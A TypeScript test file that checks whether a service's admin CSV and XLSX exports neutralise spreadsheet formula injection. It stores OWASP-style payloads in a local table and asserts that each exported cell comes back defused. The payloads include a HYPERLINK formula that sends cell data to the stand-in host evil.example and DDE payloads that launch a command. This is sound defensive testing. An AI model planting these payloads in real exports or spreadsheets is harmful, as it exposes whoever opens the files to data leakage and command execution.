import { PutCommand } from '@aws-sdk/lib-dynamodb'
import { type ExportKind, exportColumns, exportKinds } from '@core/exports'
import type { APIGatewayProxyStructuredResultV2 } from 'aws-lambda'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { neutraliseAfterSeparators } from '../../../functions/lib/csv'
import { tables } from '../../../functions/lib/store-definitions'
import { parseCsv } from '../../support/csv'
import { apiEvent, lambdaContext } from '../../support/events'
import { writeFigures } from '../../support/figures'
import { withTestEngines } from '../../support/local-server'
import { countFormulaCells, openWorkbook } from '../../support/xlsx'

/**
 * Export injection: the OWASP formula triggers at the start of EVERY field of every kind, stored in dynalite,
 * exported through the real handlers: each CSV cell comes back neutralised (a leading apostrophe), and the
 * XLSX holds no formula cell at all.
 */
type Handler = (event: unknown, context: unknown) => Promise<APIGatewayProxyStructuredResultV2>

/** = + - @, tab, CR, and the full-width ＝ ＋ － ＠. */
const triggers = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'] as const
/** What follows the trigger: formulas and DDE payloads of the OWASP page, and a plain word. */
const payloads = [
  'HYPERLINK("http://evil.example/?"&A1,"Click")',
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(1+1)*cmd|x',
  // A second formula after a separator, for a reader that splits on `;` (Excel in a European locale), on tabs,
  // or on the line break inside a field.
  "1;=cmd|' /C calc'!A0",
  'x,=1+1',
  'x\t@SUM(1+1)',
  'x\n-2+3',
]

/** A field an item may have beyond the known columns (it goes into the 'Other fields' JSON cell). */
const extraField = 'referrer'
/** An attribute NAME that starts with a trigger: a key of the 'Other fields' JSON. */
const hostileFieldName = '=HYPERLINK("http://evil.example","x")'

const storage: Record<ExportKind, { table: 'leads' | 'content'; pk: string }> = {
  quotes: { table: 'leads', pk: 'QUOTE' },
  contacts: { table: 'leads', pk: 'CONTACT' },
  newsletter: { table: 'leads', pk: 'NEWSLETTER' },
  jobs: { table: 'content', pk: 'JOB' },
  resources: { table: 'content', pk: 'RESOURCE' },
}

let exportKind: Handler
let exportAll: Handler
let authorization: Record<string, string>
/** The hostile values stored in known columns, per kind: every one must come back neutralised. */
const stored: Record<string, string[]> = {}
/** The fields beyond the known columns of each stored item, per kind: each must come back in 'Other fields'. */
const storedOther: Record<string, Record<string, unknown>[]> = {}

withTestEngines()
beforeAll(async () => {
  vi.spyOn(console, 'info').mockImplementation(() => undefined)
  const { dynamo } = await import('../../../functions/lib/clients')
  exportKind = (await import('../../../functions/admin/export-kind')).handler as Handler
  exportAll = (await import('../../../functions/admin/export-all')).handler as Handler
  authorization = await (await import('../../support/tokens')).adminAuthorization()

  // One item per trigger and kind; every field (the known columns, `id` and `createdAt` included, an extra
  // field, and an attribute with a hostile name) starts with the trigger.
  let sequence = 0
  for (const kind of exportKinds) {
    stored[kind] = []
    storedOther[kind] = []
    const { table, pk } = storage[kind]
    for (const [index, trigger] of triggers.entries()) {
      const item: Record<string, unknown> = {}
      const next = () => `${trigger}${payloads[sequence++ % payloads.length]}`
      const whole = exportColumns[kind].filter((known) => known.path === undefined)
      for (const column of whole) {
        const value = next()
        item[column.key] = value
        stored[kind].push(value)
      }
      const other: Record<string, unknown> = { [extraField]: next(), [hostileFieldName]: next() }
      Object.assign(item, other)
      // An object shown field by field (a lead's consent, a quote's estimate): each of its fields hostile, and
      // one more without a column, which comes back in Other fields. (An object that also has a column of its
      // own is shown whole there, and was given a hostile string above.)
      for (const column of exportColumns[kind]) {
        if (column.path === undefined || whole.some((known) => known.key === column.key)) continue
        item[column.key] ??= { [extraField]: next() }
        const object = item[column.key] as Record<string, string>
        other[column.key] = { [extraField]: object[extraField] }
        object[column.path] = next()
        stored[kind].push(object[column.path] ?? '')
      }
      storedOther[kind].push(other)
      const sortKey = `2026-11-22T10:00:${String(index).padStart(2, '0')}.000Z#${kind}-${index}`
      await dynamo().send(
        new PutCommand({
          TableName: tables[table].localName,
          Item: { ...item, [tables[table].partitionKey]: pk, [tables[table].sortKey]: sortKey },
        }),
      )
    }
  }
})

afterAll(async () => {
  vi.restoreAllMocks()
})

const admin = () => ({ authorization: authorization.authorization ?? '' })

/** The first character of a cell a spreadsheet program would take as the start of a formula. */
const startsFormula = (text: string) => triggers.some((trigger) => text.startsWith(trigger))

/** The same after the tabs and CRs some programs strip first (they are separators to some readers too). */
const startsFormulaAfterStrip = (text: string) => startsFormula(text.replace(/^[\t\r]+/, ''))

const figures = {
  triggers: triggers.length,
  kinds: exportKinds.length,
  csvCells: 0,
  xlsxCells: 0,
  formulaCells: 0,
}
afterAll(() => {
  if (figures.csvCells > 0) writeFigures('exports', figures)
})

describe('formula injection in the exports (real handlers on dynalite)', () => {
  it.each(exportKinds)('%s.csv: every cell that would start a formula is neutralised', async (kind) => {
    const reply = await exportKind(
      apiEvent('admin-export-kind', { headers: admin(), pathParameters: { kind } }),
      lambdaContext,
    )
    expect(reply.statusCode).toBe(200)
    const rows = parseCsv(String(reply.body).replace(/^\uFEFF/, ''))
    const [header, ...body] = rows
    expect(body).toHaveLength(triggers.length)
    const cells = [...(header ?? []), ...body.flat()]
    figures.csvCells += cells.length
    expect(cells.filter(startsFormula)).toEqual([])
    // Each stored value is there, with an apostrophe in front (and after a separator a trigger follows).
    const bodyCells = new Set(body.flat())
    for (const value of stored[kind] ?? [])
      expect(bodyCells.has(neutraliseAfterSeparators(`'${value}`)), JSON.stringify(value)).toBe(true)
    // The fields beyond the known columns, hostile name included, come back whole in the last cell, as JSON
    // (which starts with '{', never a trigger).
    expect(header?.at(-1)).toBe('Other fields')
    const others = body.map((row) => row.at(-1) ?? '')
    expect(new Set(others)).toEqual(
      new Set(
        storedOther[kind]?.map((other) =>
          neutraliseAfterSeparators(JSON.stringify(Object.fromEntries(Object.entries(other).sort()))),
        ),
      ),
    )
  })

  it.each(
    exportKinds.flatMap((kind) => [
      [kind, ';'],
      [kind, '\t'],
    ]) as [ExportKind, ';' | '\t'][],
  )(
    '%s.csv read with %j as the separator (as Excel in a European locale): no cell starts a formula, rows whole',
    async (kind, delimiter) => {
      const reply = await exportKind(
        apiEvent('admin-export-kind', { headers: admin(), pathParameters: { kind } }),
        lambdaContext,
      )
      expect(reply.statusCode).toBe(200)
      const text = String(reply.body).replace(/^\uFEFF/, '')
      const cells = parseCsv(text, delimiter).flat()
      expect(cells.length).toBeGreaterThan(0)
      expect(cells.filter(startsFormulaAfterStrip)).toEqual([])
      // A value holding this separator, first in its record (the id column, when the rotation of payloads put
      // one there), is not cut: the cell that reads
      // it starts with the whole value (what follows its closing quote joins it, as Excel reads it).
      const foreignRows = parseCsv(text, delimiter)
      const cut = parseCsv(text)
        .slice(1)
        .map((record) => record[0] ?? '')
        .filter((first) => first.includes(delimiter))
      for (const first of cut)
        expect(
          foreignRows.some((row) => row[0]?.startsWith(first)),
          JSON.stringify(first),
        ).toBe(true)
    },
  )

  it('forms-export.xlsx: 0 formula cells, every value a neutralised string', async () => {
    const reply = await exportAll(apiEvent('admin-export-all', { headers: admin() }), lambdaContext)
    expect(reply.statusCode).toBe(200)
    expect(reply.isBase64Encoded).toBe(true)
    const workbook = await openWorkbook(Buffer.from(String(reply.body), 'base64'))
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([...exportKinds])
    figures.formulaCells = countFormulaCells(workbook)
    expect(figures.formulaCells).toBe(0)
    for (const kind of exportKinds) {
      const sheet = workbook.getWorksheet(kind)!
      expect(sheet.rowCount).toBe(triggers.length + 1)
      const texts = new Set<string>()
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          figures.xlsxCells += 1
          // Strings only (no formula, no hyperlink, no rich text object), and none starts a formula.
          expect(cell.type, `${kind} ${cell.address}`).toBe(ExcelJS.ValueType.String)
          expect(startsFormula(String(cell.value)), `${kind} ${cell.address}`).toBe(false)
          texts.add(String(cell.value))
        })
      })
      // XML reads a lone CR back as LF (its end-of-line rule); the apostrophe in front is what matters.
      const asXmlReadsIt = (text: string) => text.replace(/\r\n?/g, '\n')
      for (const value of stored[kind] ?? []) {
        expect(texts.has(asXmlReadsIt(`'${value}`)), JSON.stringify(value)).toBe(true)
      }
      for (const other of storedOther[kind] ?? []) {
        const json = JSON.stringify(Object.fromEntries(Object.entries(other).sort()))
        expect(texts.has(json), json).toBe(true)
      }
    }
  })
})
